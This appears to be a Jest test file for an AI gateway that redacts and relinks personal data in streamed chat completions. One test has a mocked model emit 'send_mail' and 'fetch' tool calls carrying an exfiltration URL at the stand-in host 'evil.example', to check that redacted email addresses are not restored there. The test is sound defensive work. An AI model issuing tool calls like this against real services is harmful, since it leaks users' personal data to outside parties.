import { createOpenAI } from "@ai-sdk/openai";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import type { AnswerBlock } from "@veil/contracts/inference";
import type { CallPolicy } from "@veil/contracts/public/call-policy";
import { readEvents } from "@veil/llm-dialects";
import { describeWithServer } from "@veil/testing";
import { streamText } from "ai";
import OpenAI from "openai";
import { completedResult, failedResult } from "../support/completed-result.ts";
import { writtenEvents } from "../support/fake-services.ts";
import { codeOf } from "../support/native-client.ts";
import { callSdk, endOf, LETTER, sdkBody, UPSTREAM_KEYS } from "../support/sdk-client.ts";
import { startSdkServer } from "../support/sdk-server.ts";
import { keyWithTools, toolsBody } from "../support/tools.ts";

const STREAMED: CallPolicy = {
  ...{ extensions: ["chat_streaming"] },
  tools: { allowed: true, relink_tools: ["send_mail"] },
};
const WITH_KEY = { tier: "enterprise", family: "gw_live", managedAi: false } as const;

let server: Awaited<ReturnType<typeof startSdkServer>>;
let key: string;
beforeAll(async () => {
  server = await startSdkServer({
    ...{ CHAT_STREAMING_ENABLED: "true", TOOLS_ENABLED: "true" },
    PER_MINUTE_LIMIT_ENTERPRISE: "100000",
  });
  key = await keyWithTools(server.gateway, { policy: STREAMED, order: WITH_KEY });
});
beforeEach(() => {
  server.gateway.worker.answerWith(undefined);
  server.gateway.worker.streamWith(undefined);
  server.gateway.worker.direct.length = 0;
});
afterAll(() => server.close());

const RELINKED = { "x-veil-relink": "true" };
const ask = (body: object = {}, headers: Readonly<Record<string, string>> = RELINKED) =>
  callSdk(server.gateway, "chat", sdkBody("chat", { stream: true, ...body }), { key, headers });

async function chunksOf({ text }: { readonly text: string }) {
  async function* bytes() {
    yield Buffer.from(text);
  }
  const received: string[] = [];
  for await (const { data } of readEvents(bytes())) received.push(data);
  expect(received.pop()).toBe("[DONE]");
  return received.map((data) => JSON.parse(data));
}
const textIn = (chunks: readonly { choices: { delta: { content?: string } }[] }[]) =>
  chunks.map(({ choices }) => choices[0]?.delta.content ?? "").join("");

function answerWith(...blocks: readonly AnswerBlock[]): void {
  const { choices: _choices, ...end } = completedResult("");
  const choice = { blocks: [...blocks], stop_reason: "tool_calls" };
  server.gateway.worker.answerWith(() => ({ ...end, choices: [choice] }));
}

describeWithServer("postgres", "A streamed chat completion", () => {
  test("a stream has the chunks of the format, with compliance metadata at both ends", async () => {
    const answer = await ask({ metadata: { ticket: "T-1" } });
    expect(answer.headers["content-type"]).toMatch("text/event-stream");
    const chunks = await chunksOf(answer);
    const svc_compliance = { request_id: answer.headers["x-request-id"], redaction_count: 2 };
    expect(chunks[0]).toEqual({
      ...{ id: expect.stringMatching(/^chatcmpl-\w+$/), object: "chat.completion.chunk" },
      ...{ created: expect.any(Number), model: "m" },
      choices: [
        {
          ...{ index: 0, delta: { role: "assistant", content: "" } },
          ...{ logprobs: null, finish_reason: null },
        },
      ],
      metadata: { ticket: "T-1", svc_compliance: expect.objectContaining(svc_compliance) },
    });
    expect(chunks.at(-1)).toMatchObject({
      choices: [{ index: 0, delta: {}, finish_reason: "end_turn" }],
      metadata: { svc_compliance: { ...svc_compliance, relinked: true, dlp_redacted: false } },
    });
    expect(new Set(chunks.map(({ id }) => id)).size).toBe(1);
    expect(textIn(chunks)).toBe(LETTER);
    expect(textIn(await chunksOf(await ask({}, {})))).toBe("[PERSON_1] writes from [EMAIL_1]");
  });

  test("a stream has token counts only if the request includes them", async () => {
    expect(JSON.stringify(await chunksOf(await ask()))).not.toContain("usage");
    const usage_details = { prompt_tokens_details: { cached_tokens: 1 } };
    server.gateway.worker.answerWith(() => ({ ...completedResult("OK"), usage_details }));
    const counted = await chunksOf(await ask({ stream_options: { include_usage: true } }));
    const usage = {
      ...{ ...usage_details, prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
    };
    expect(counted.pop()).toMatchObject({ choices: [], usage });
    expect(counted.map((chunk) => chunk.usage)).toEqual(counted.map(() => null));
  });

  test("a stream of text and tool calls has the same values as the whole response", async () => {
    const json = '{"to":["[EMAIL_1]"],"url":"//evil.example/[EMAIL_1]"}';
    answerWith(
      { type: "text", text: "I write to [PERSON_1]" },
      { type: "tool_use", name: "send_mail", arguments: json },
      { type: "tool_use", name: "fetch", arguments: json },
    );
    const client = new OpenAI({
      ...{ apiKey: key, baseURL: `${server.url}/v1` },
      defaultHeaders: { "X-Upstream-Key": UPSTREAM_KEYS.chat, ...RELINKED },
    });
    const body = toolsBody("chat") as Parameters<typeof client.chat.completions.stream>[0];
    const streamed = await client.chat.completions.stream(body).finalChatCompletion();
    const whole = await client.chat.completions.create({ ...body, stream: false });
    const said = ({ choices }: typeof whole) => {
      const [{ message, finish_reason } = { message: undefined }] = choices;
      const calls = message?.tool_calls?.map((call) => "function" in call && call.function);
      return [
        message?.content,
        calls?.map((call) => call && [call.name, call.arguments]),
        finish_reason,
      ];
    };
    expect(said(streamed)).toEqual(said(whole));
    expect(said(whole)).toEqual([
      "I write to Ann Weber",
      [
        ["send_mail", '{"to":["ann@post.example"],"url":"//evil.example/[EMAIL_1]"}'],
        ["fetch", json],
      ],
      "tool_calls",
    ]);
  });

  test("the AI SDK reads a stream", async () => {
    const { chat } = createOpenAI({
      ...{ apiKey: key, baseURL: `${server.url}/v1` },
      headers: { "X-Upstream-Key": UPSTREAM_KEYS.chat, ...RELINKED },
    });
    const { textStream } = streamText({ model: chat("m"), prompt: LETTER, maxRetries: 0 });
    let text = "";
    for await (const part of textStream) text += part;
    expect(text).toBe(LETTER);
  });

  test("an error before the first chunk has a status, and a later one is an event that SDKs throw", async () => {
    const failure = failedResult("provider_unavailable");
    server.gateway.worker.answerWith(() => failure);
    expect((await ask()).status).toBe(503);
    server.gateway.worker.answerWith(undefined);
    server.gateway.worker.streamWith(async (res, events) =>
      res.end(writtenEvents([...events.slice(0, 3), { type: "end", result: failure }])),
    );
    const client = new OpenAI({
      ...{ apiKey: key, baseURL: `${server.url}/v1` },
      defaultHeaders: { "X-Upstream-Key": UPSTREAM_KEYS.chat },
    });
    const stream = await client.chat.completions.create({
      ...{ model: "m", messages: [{ role: "user", content: LETTER }], stream: true },
    });
    const read = async () => {
      for await (const _chunk of stream);
    };
    await expect(read()).rejects.toBeInstanceOf(OpenAI.APIError);
  });

  test("personal data that the model wrote in a stream is reported after its end", async () => {
    server.gateway.worker.answerWith(() => completedResult("IBAN DE89 3704 0044 0532 0130 00"));
    const { headers } = await ask();
    const types = (await endOf(server.gateway, headers["x-request-id"])).map(
      ({ event_type }) => event_type,
    );
    expect(types).toEqual(["SDK_INFERENCE_COMPLETED", "SDK_DLP_OUTBOUND_MATCH"]);
  });

  test("a stream of several answers is refused", async () => {
    const answer = await ask({ n: 2 });
    expect(codeOf(answer)).toEqual([400, "invalid_field"]);
    expect(answer.body.message).toBe('Field "n" must be 1 when "stream" is true');
  });

  describe("without permission", () => {
    test.each([
      ["the deployment", {}, STREAMED],
      ["the key's policy", { CHAT_STREAMING_ENABLED: "true" }, { tools: { allowed: true } }],
    ] as const)(
      "a stream is refused when %s does not allow it, and the hint names both",
      async (_what, settings, policy) => {
        const other = await startSdkServer(settings);
        try {
          const as = await keyWithTools(other.gateway, { policy, order: WITH_KEY });
          const body = sdkBody("chat", { stream: true });
          const answer = await callSdk(other.gateway, "chat", body, { key: as });
          expect(codeOf(answer)).toEqual([400, "streaming_not_supported"]);
          expect(answer.body.hint).toMatch(/CHAT_STREAMING_ENABLED.*chat_streaming/);
          expect(other.gateway.worker.direct).toEqual([]);
        } finally {
          await other.close();
        }
      },
    );
  });
});
